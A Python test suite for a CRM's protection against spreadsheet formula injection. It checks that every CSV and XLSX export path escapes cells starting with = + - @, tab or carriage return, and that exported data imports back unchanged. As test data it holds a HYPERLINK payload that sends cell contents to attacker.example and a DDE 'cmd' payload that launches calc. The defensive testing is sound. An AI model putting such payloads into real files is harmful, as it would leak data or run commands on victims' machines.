"""Formula injection: no CSV or XLSX that Patron writes carries a cell a spreadsheet would run.

A text cell starting with = + - @, a tab or a carriage return (or with the apostrophe that marks
text) is written with an apostrophe in front, on every path that writes CSV or XLSX: the web
lists' downloads, the API's ``format=csv``, ``patron export`` and the import's error files. The
import removes the apostrophe again, so export → import gives back identical records.
"""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import timedelta
from decimal import Decimal
from pathlib import Path

import pytest
from django.core.management import call_command
from django.urls import reverse
from django.utils import timezone
from hypothesis import given
from hypothesis import strategies as st

from patron.commerce.models import CostEvent, Order, OrderLine, Product
from patron.commerce.services import LineInput, cost_event_create, order_create
from patron.core.cells import csv_cell, escape_text, xlsx_cell
from patron.core.columns import importable_kinds
from patron.customers.models import Contact, Customer
from patron.customers.services import contact_create
from patron.engagement.models import Interaction
from patron.engagement.services import interaction_create, task_create
from patron.feedback.services.answers import response_create
from patron.feedback.services.surveys import survey_create
from patron.imports.parsing import as_text
from tests.api.conftest import client_for
from tests.factories import make_branch, make_customer, make_product, make_user
from tests.imports.helpers import read_errors, run, write_csv

LINK = '=HYPERLINK("http://attacker.example/?d="&A1,"Click")'
# Values a spreadsheet would run, and values that legitimately start with what the rule uses.
NASTY = ['=HYPERLINK("http://x.example","go")', "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "'quoted", "''twice", "=", "-", "+86 138 0013 8000"]


def _is_formula_free(cell: str) -> bool:
    return not cell or cell[0] not in "=+-@\t\r"


def _cells(body: bytes) -> list[list[str]]:
    assert body.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def _csv_rows(body: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))


def _streamed(response) -> bytes:
    assert response.status_code == 200, response.content[:300]
    assert response["Content-Type"].startswith("text/csv")
    return b"".join(response.streaming_content)


def _assert_safe(body: bytes) -> list[dict[str, str]]:
    for row in _cells(body):
        for cell in row:
            assert _is_formula_free(cell), cell
    return _csv_rows(body)


# ---------------------------------------------------------------- the rule


def test_the_rule_escapes_text_that_would_run_and_leaves_numbers_alone():
    assert escape_text(LINK) == "'" + LINK
    for value in ("+86 138", "-note", "@user", "\tx", "\rx", "'x"):
        assert escape_text(value) == "'" + value
    for value in ("plain", "", "1+1", " =late", "张伟"):
        assert escape_text(value) == value
    # Numbers, dates and flags are written as they are: a negative amount stays a number.
    assert csv_cell(Decimal("-12.50")) == "-12.50" and csv_cell(-3) == "-3" and csv_cell(False) == "false"
    assert xlsx_cell(Decimal("-12.50"), number=True) == Decimal("-12.50")
    assert xlsx_cell("-12.50", number=True) == "'-12.50"  # text in a number column is still text
    assert xlsx_cell(LINK, number=False) == "'" + LINK


# Text with no spaces at its end (the import trims cells), and leading spaces only after a tab
# or carriage return (which the rule protects with the apostrophe).
_round_trip_text = st.text().map(str.rstrip).filter(
    lambda s: s == s.lstrip() or s[0] in "\t\r"
)


@given(_round_trip_text)
def test_any_text_reads_back_exactly(text):
    cell = csv_cell(text)
    assert _is_formula_free(cell)
    assert as_text(cell) == text


# ---------------------------------------------------------------- every path


@pytest.fixture
def nasty(alice, north):
    customer = make_customer(LINK, owner=alice, branch=north, external_id="C-1", phone="+86 138 0013 8000",
                             city="@Shanghai", tags=["-minus"])
    contact_create(customer=customer, name="Li Na", title="=1+2", external_id="CT-1", phone="139 0013 9000")
    task_create(customer=customer, title="@call", notes=LINK, external_id="T-1")
    interaction_create(customer=customer, channel="call", subject="+subject", body="\t=cmd|' /C calc'!A0",
                       occurred_at=timezone.now() - timedelta(days=1), handled_by=alice, external_id="I-1")
    product = make_product(sku="-SKU", name="=product", category="+cat")
    order_create(customer=customer, channel="store", ordered_at=timezone.now() - timedelta(days=2),
                 external_id="=O-1", lines=[LineInput(product, 1)])
    cost_event_create(customer=customer, kind="delivery", amount=Decimal("8.80"),
                      occurred_at=timezone.now() - timedelta(days=1), external_id="CE-1", note="@note")
    survey = survey_create(name="NPS", kind="nps")
    response_create(survey=survey, customer=customer, score=2, channel="api", comment=LINK)
    return customer


def test_web_list_downloads(client, alice, nasty):
    client.force_login(alice)
    customers = _assert_safe(_streamed(client.get(reverse("customer-list"), {"format": "csv"})))
    assert customers[0]["name"] == "'" + LINK and customers[0]["phone"] == "'+8613800138000"
    assert customers[0]["city"] == "'@Shanghai" and customers[0]["tags"] == "'-minus"
    tasks = _assert_safe(_streamed(client.get(reverse("task-list"), {"format": "csv", "status": "all"})))
    assert tasks[0]["notes"] == "'" + LINK and tasks[0]["title"] == "'@call"
    orders = _assert_safe(_streamed(client.get(reverse("order-list"), {"format": "csv"})))
    assert orders[0]["external_id"] == "'=O-1" and orders[0]["product_sku"] == "'-SKU"
    responses = _assert_safe(_streamed(client.get(reverse("response-list"), {"format": "csv"})))
    assert responses[0]["comment"] == "'" + LINK and responses[0]["customer_name"] == "'" + LINK
    follow_ups = _assert_safe(_streamed(client.get(reverse("feedback:follow-ups"), {"format": "csv", "status": "all"})))
    assert follow_ups[0]["customer_name"] == "'" + LINK
    # Numbers are not escaped: the response's score and the customer's totals stay numbers.
    assert responses[0]["score"] == "2" and customers[0]["order_count"] == "1"


@pytest.mark.parametrize(
    ("path", "column", "value"),
    [
        ("/customers", "name", LINK),
        ("/contacts", "title", "=1+2"),
        ("/tasks", "notes", LINK),
        ("/interactions", "body", "\t=cmd|' /C calc'!A0"),
        ("/orders", "product_name", "=product"),
        ("/cost-events", "note", "@note"),
        ("/products", "category", "+cat"),
    ],
)
def test_api_csv_lists(alice, root, nasty, path, column, value):
    api = client_for(root if path == "/products" else alice)
    rows = _assert_safe(_streamed(api.get(path, format="csv")))
    assert rows[0][column] == "'" + value


def test_patron_export_csv_and_xlsx_and_parquet(tmp_path, nasty):
    import pyarrow.parquet as pq
    from openpyxl import load_workbook

    for kind, column, value in (("customers", "name", LINK), ("contacts", "title", "=1+2"), ("tasks", "notes", LINK)):
        out = tmp_path / f"{kind}.csv"
        call_command("export", kind, "--out", str(out), stdout=io.StringIO(), stderr=io.StringIO())
        assert _assert_safe(out.read_bytes())[0][column] == "'" + value

        xlsx = tmp_path / f"{kind}.xlsx"
        call_command("export", kind, "--out", str(xlsx), stdout=io.StringIO(), stderr=io.StringIO())
        with zipfile.ZipFile(xlsx) as archive:
            sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula anywhere in the sheet
        sheet = load_workbook(xlsx).active
        header = [c.value for c in sheet[1]]
        cell = sheet.cell(row=2, column=header.index(column) + 1)
        assert cell.data_type == "s" and cell.value == "'" + value
        for row in sheet.iter_rows(min_row=2, values_only=True):
            assert all(not isinstance(v, str) or _is_formula_free(v) for v in row)

    # Parquet is typed data for analysis tools, which never evaluate a string: values stay exact.
    parquet = tmp_path / "customers.parquet"
    call_command("export", "customers", "--out", str(parquet), stdout=io.StringIO(), stderr=io.StringIO())
    assert pq.read_table(parquet).to_pylist()[0]["name"] == LINK


def test_xlsx_keeps_negative_amounts_numbers(tmp_path, alice):
    from openpyxl import load_workbook

    customer = make_customer("Refunded", owner=alice)
    product = make_product(price=10, cost=60)
    order_create(customer=customer, channel="web", ordered_at=timezone.now() - timedelta(days=1), lines=[LineInput(product, 1)])
    out = tmp_path / "customers.xlsx"
    call_command("export", "customers", "--out", str(out), stdout=io.StringIO(), stderr=io.StringIO())
    sheet = load_workbook(out).active
    header = [c.value for c in sheet[1]]
    profit = sheet.cell(row=2, column=header.index("profit_total") + 1)
    assert profit.data_type == "n" and profit.value == -50


def test_import_error_file_is_escaped_and_imports_back(tmp_path, alice, root):
    path = write_csv(tmp_path / "customers.csv", ["external_id", "name", "email", "=cmd"],
                     [["E-1", LINK, "not an email", "@x"], ["E-2", "'quoted", "also bad", ""]])
    result = run(path, "customers", user=root)
    assert result.rejected == 2 and result.error_file is not None
    raw = result.error_file.read_bytes()
    _assert_safe(raw)
    rows = read_errors(result.error_file)
    assert rows[0]["name"] == "'" + LINK and rows[0]["'=cmd"] == "'@x"
    assert rows[1]["name"] == "quoted"  # written as the import read it: without its apostrophe

    # Fixed in the error file and imported again, the names are what the first import read.
    fixed = result.error_file.read_text(encoding="utf-8-sig").replace("not an email", "a@example.com")
    fixed = fixed.replace("also bad", "b@example.com")
    again = tmp_path / "fixed.csv"
    again.write_text(fixed, encoding="utf-8-sig")
    assert run(again, "customers", user=root).created == 2
    assert dict(Customer.objects.values_list("external_id", "name")) == {"E-1": LINK, "E-2": "quoted"}


def test_import_page_shows_the_error_without_the_apostrophe(tmp_path, root):
    from patron.imports.models import ImportJob
    from patron.imports.views import _error_preview

    path = write_csv(tmp_path / "c.csv", ["external_id", "name", "=email"], [["E-1", "x", "bad"]])
    result = run(path, "customers", user=root, columns={"external_id": "external_id", "name": "name", "=email": "email"})
    job = ImportJob(error_file=str(result.error_file), status=ImportJob.Status.DONE)
    assert _error_preview(job)[0]["error"].startswith("=email:")


# ---------------------------------------------------------------- the round trip


def _snapshot() -> dict[str, list[tuple]]:
    return {
        "customers": sorted(Customer.objects.values_list(
            "external_id", "name", "email", "phone", "city", "address", "owner__username", "branch__code",
            "region__code", "stage", "acquisition_cost", "currency", "revenue_total", "order_count")),
        "tags": sorted(Customer.tags.through.objects.values_list("customer__external_id", "tag__name")),
        "contacts": sorted(Contact.objects.values_list(
            "external_id", "customer__external_id", "name", "title", "email", "phone", "is_primary")),
        "products": sorted(Product.objects.values_list("external_id", "sku", "name", "category", "list_price", "unit_cost")),
        "orders": sorted(Order.objects.values_list(
            "external_id", "customer__external_id", "channel", "branch__code", "ordered_at", "currency", "revenue")),
        "lines": sorted(OrderLine.objects.values_list("order__external_id", "line_no", "product__sku", "quantity", "unit_price")),
        "interactions": sorted(Interaction.objects.values_list(
            "external_id", "customer__external_id", "contact__external_id", "subject", "body", "occurred_at",
            "handled_by__username")),
        "cost_events": sorted(CostEvent.objects.values_list("external_id", "customer__external_id", "kind", "amount", "note")),
    }


def _nasty_book(values: list[str]) -> None:
    """Every importable kind, with each value in each kind of text column."""
    region_branch = make_branch("+B1", "Plus branch", region_code="-R", region_name="Minus region")
    owner = make_user("-rep", "rep")
    at = timezone.now().replace(microsecond=0) - timedelta(days=5)
    for n, value in enumerate(values):
        customer = make_customer(
            value, external_id=f"{value}#{n}", owner=owner, branch=region_branch, email=f"+{n}@example.com",
            # A phone is a number, stored in E.164: its "+" is what a spreadsheet would run.
            phone=f"+86 139 0013 {n:04d}", city=value, address=value, tags=[value.strip() or "blank", f"'{n}"],
        )
        contact = contact_create(customer=customer, name=value, title=value, phone=f"+86 138 0013 {n:04d}",
                                 external_id=f"CT{value}#{n}", email=f"-{n}@example.com")
        product = make_product(sku=f"{value}#{n}", name=value, category=value, external_id=f"P{value}#{n}")
        order_create(customer=customer, channel="web", ordered_at=at, external_id=f"{value}#O{n}",
                     branch=region_branch, lines=[LineInput(product, Decimal("1.5"))])
        interaction_create(customer=customer, channel="call", subject=value, body=value, occurred_at=at,
                           handled_by=owner, contact=contact, external_id=f"I{value}#{n}")
        cost_event_create(customer=customer, kind="ticket", amount=Decimal("3.10"), occurred_at=at,
                          external_id=f"CE{value}#{n}", note=value)


def _wipe() -> None:
    Order.objects.all().delete()
    CostEvent.objects.all().delete()
    Interaction.objects.all().delete()
    Contact.objects.all().delete()
    Customer.objects.all().delete()
    Product.objects.all().delete()


# XML, and so XLSX, cannot hold a carriage return (it reads back as a line feed): values with one
# round-trip exactly through CSV only (docs/export.md says so).
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_nasty_values_survive_export_then_import_exactly(tmp_path, db, fmt):
    values = NASTY if fmt == "csv" else [v for v in NASTY if "\r" not in v]
    _nasty_book(values)
    before = _snapshot()
    assert {row[1] for row in before["customers"]} == set(values)  # the book holds every value as written
    files: dict[str, Path] = {}
    for kind in importable_kinds():
        files[kind] = tmp_path / f"{kind}.{fmt}"
        call_command("export", kind, "--out", str(files[kind]), stdout=io.StringIO(), stderr=io.StringIO())
        if fmt == "csv":
            _assert_safe(files[kind].read_bytes())

    # Imported onto the same records: every row reads back as its record, so nothing changes.
    for kind, path in files.items():
        result = run(path, kind)
        assert result.rejected == 0, result.errors
        assert result.created == result.updated == 0, (kind, result)
    assert _snapshot() == before

    # Imported into an empty book: the same records again.
    _wipe()
    for kind, path in files.items():
        result = run(path, kind)
        assert result.rejected == 0, result.errors
    assert _snapshot() == before
